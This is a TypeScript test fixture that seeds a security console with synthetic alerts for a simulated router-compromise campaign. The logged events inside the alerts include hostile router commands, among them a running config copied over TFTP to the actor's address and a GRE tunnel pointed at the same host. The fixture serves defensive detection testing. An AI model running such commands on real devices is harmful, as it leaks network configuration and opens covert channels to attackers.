// The dataset the console's end-to-end tests run on.
//
// Alerts go through the real correlation stage (IncidentManager, rules/correlation/incidents.yml) into the
// service's store before the service starts, so incidents, their timelines and technique chains are the
// pipeline's own. The alerts themselves are written here, in the shape the detectors emit, because no detector
// that could raise them from raw input is on main yet; when the drill generator and the service's ingest land,
// this module switches to them (see seedFromDrill).
import { openStore } from '../../src/store/open.js';
import { IncidentManager } from '../../src/correlation/manager.js';
import type { Alert } from '../../src/model/alert.js';
import type { Severity } from '../../src/model/severity.js';

/** Techniques planted in the campaign, in the order the actor used them. */
export const PLANTED = ['T1190', 'T1136.001', 'T1562.003', 'T1572', 'T1040', 'T1021.004', 'T1602.002', 'T1048'];
/** Devices the campaign touched. */
export const CAMPAIGN_DEVICES = ['pe1-nyc', 'p1-chi', 'pe2-dal'];
const ACTOR = '203.0.113.77';

function alert(n: number, time: string, detector: Alert['detector'], rule: string, title: string, severity: Severity, attack: string[], device: string, extra: Partial<Alert> = {}): Alert {
  return {
    id: `fx-${String(n).padStart(3, '0')}`,
    time, detector, rule: { id: rule, title, level: severity, tags: attack.map((t) => `attack.${t.toLowerCase()}`) }, severity, attack, device,
    entities: { devices: [device], ...(extra.entities ?? {}) },
    source: { file: `logs/${device}.log`, line: 1000 + n },
    ...extra,
  };
}

/** The campaign (one incident), an unrelated lower-severity incident, and background noise. */
export function fixtureAlerts(): Alert[] {
  const a: Alert[] = [
    alert(1, '2026-11-20T02:14:07.120Z', 'sigma', 'tw-ios-webui-implant', 'Cisco IOS XE web UI exploitation (CVE-2023-20198)', 'high', ['T1190'], 'pe1-nyc', {
      entities: { ips: [ACTOR] },
      event: { time: '2026-11-20T02:14:07.120Z', host: 'pe1-nyc', mnemonic: 'WEBUI-6-INSTALL_OPERATION_INFO', message: `User: cisco_tac_admin, Install Operation: ADD /webui/logoutconfirm.html?logon_hash=1 from ${ACTOR}` },
      reasons: [`Web UI install operation from ${ACTOR}, which is not a management address`],
    }),
    alert(2, '2026-11-20T02:16:41.003Z', 'sigma', 'tw-new-priv15-user', 'New privilege-15 local account', 'high', ['T1136.001'], 'pe1-nyc', {
      entities: { accounts: ['cisco_tac_admin'], ips: [ACTOR] },
      event: { time: '2026-11-20T02:16:41.003Z', host: 'pe1-nyc', mnemonic: 'PARSER-5-CFGLOG_LOGGEDCMD', user: 'cisco_tac_admin', command: 'username cisco_tac_admin privilege 15 secret 9 <redacted>', message: 'User:cisco_tac_admin  logged command:username cisco_tac_admin privilege 15 secret 9 <redacted>' },
      remediation: 'no username cisco_tac_admin',
    }),
    alert(3, '2026-11-20T02:18:02.500Z', 'audit', 'TW-IOS-LOG-HISTORY', 'Command history and archive logging turned off', 'medium', ['T1562.003'], 'pe1-nyc', {
      event: { diff: [{ section: 'archive', added: [], removed: ['archive', ' log config', '  logging enable', '  notify syslog contenttype plaintext'] }] },
      reasons: ['archive log config was removed between the 02:00 and 02:30 snapshots'],
      remediation: 'archive\n log config\n  logging enable\n  notify syslog contenttype plaintext',
    }),
    alert(4, '2026-11-20T02:21:30.000Z', 'audit', 'TW-IOS-GRE-UNKNOWN-PEER', 'GRE tunnel to an address outside the site', 'critical', ['T1572'], 'pe1-nyc', {
      entities: { ips: [ACTOR] },
      event: { diff: [{ section: 'interface Tunnel100', added: ['interface Tunnel100', ' ip address 172.31.255.1 255.255.255.252', ' tunnel source Loopback0', ` tunnel destination ${ACTOR}`], removed: [] }] },
      reasons: [`tunnel destination ${ACTOR} is in no site prefix`],
      remediation: 'no interface Tunnel100',
    }),
    alert(5, '2026-11-20T03:02:11.800Z', 'sigma', 'tw-monitor-capture', 'Packet capture started on a router', 'high', ['T1040'], 'p1-chi', {
      entities: { accounts: ['cisco_tac_admin'] },
      event: { time: '2026-11-20T03:02:11.800Z', host: 'p1-chi', program: 'mgd', user: 'cisco_tac_admin', message: 'UI_CMDLINE_READ_LINE: User \'cisco_tac_admin\', command \'monitor traffic interface ge-0/0/0 write-file /var/tmp/tac.pcap matching "port 49"\'' },
    }),
    alert(6, '2026-11-20T03:05:55.250Z', 'sigma', 'tw-device-to-device-ssh', 'SSH from one router to another', 'medium', ['T1021.004'], 'p1-chi', {
      entities: { accounts: ['cisco_tac_admin'], devices: ['pe1-nyc'] },
      event: { time: '2026-11-20T03:05:55.250Z', host: 'p1-chi', program: 'sshd', src_ip: '10.0.0.1', user: 'cisco_tac_admin', message: 'Accepted keyboard-interactive/pam for cisco_tac_admin from 10.0.0.1 port 51234 ssh2' },
    }),
    alert(7, '2026-11-20T03:31:19.040Z', 'sigma', 'tw-config-copy-tftp', 'Running config copied off the device over TFTP', 'high', ['T1602.002'], 'pe2-dal', {
      entities: { accounts: ['cisco_tac_admin'], ips: [ACTOR] },
      event: { time: '2026-11-20T03:31:19.040Z', host: 'pe2-dal', mnemonic: 'PARSER-5-CFGLOG_LOGGEDCMD', user: 'cisco_tac_admin', message: `User:cisco_tac_admin  logged command:copy running-config tftp://${ACTOR}/pe2.cfg` },
    }),
    alert(8, '2026-11-20T03:33:00.000Z', 'flows', 'tw-flow-bulk-exfil', 'Bulk transfer to an outside address', 'high', ['T1048'], 'pe2-dal', {
      entities: { ips: ['10.0.2.1', ACTOR] },
      event: { src_ip: '10.0.2.1', dst_ip: ACTOR, dst_port: 69, protocol: 17, bytes: 48_211_332, packets: 35_102, time_start: '2026-11-20T03:31:20.000Z', time_end: '2026-11-20T03:33:00.000Z' },
      reasons: ['48 MB in 100 s to an address never seen before, over TFTP'],
    }),
    // an unrelated, smaller incident
    alert(20, '2026-11-21T11:00:00.000Z', 'audit', 'TW-IOS-SNMP-COMMUNITY-PUBLIC', 'SNMP community "public" with write access', 'medium', ['T1602.001'], 'ce7-bos', {
      remediation: 'no snmp-server community public RW',
    }),
  ];
  // low-severity noise spread over the days before: logins of known operators from the jump hosts
  for (let i = 0; i < 12; i++) {
    const t = new Date(Date.parse('2026-11-17T08:00:00.000Z') + i * 6 * 3600_000).toISOString();
    a.push(alert(100 + i, t, 'sigma', 'tw-login-outside-hours', 'Login outside usual hours', 'info', ['T1078'], `acc${i % 4}-sea`, {
      entities: { accounts: [`noc${i % 3}`] },
      event: { time: t, host: `acc${i % 4}-sea`, mnemonic: 'SEC_LOGIN-5-LOGIN_SUCCESS', message: `Login Success [user: noc${i % 3}] [Source: 10.9.0.${i}] [localport: 22]` },
    }));
  }
  return a;
}

/** Puts the fixture into the store under `data` through the correlation stage; returns the incidents it made. */
export async function seedFixture(data: string): Promise<{ alerts: number; incidents: number }> {
  const store = await openStore({ data });
  try {
    const mgr = await IncidentManager.open(store);
    const r = await mgr.ingest(fixtureAlerts());
    await mgr.idle();
    return { alerts: r.stored.length, incidents: (await store.listIncidents({ limit: 1000 })).total };
  } finally {
    await store.close();
  }
}
